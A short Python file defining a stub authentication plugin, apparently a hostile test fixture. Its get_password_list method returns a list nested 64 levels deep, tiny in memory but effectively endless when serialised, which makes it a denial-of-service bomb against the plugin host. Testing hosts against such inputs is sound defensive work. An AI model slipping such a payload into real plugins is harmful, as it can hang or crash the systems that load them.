# Returns a list that is small in memory and endless when written out.
class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        shared = ["x"]
        for _ in range(64):
            shared = [shared, shared]
        return {"cookie": {"n": shared}}

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
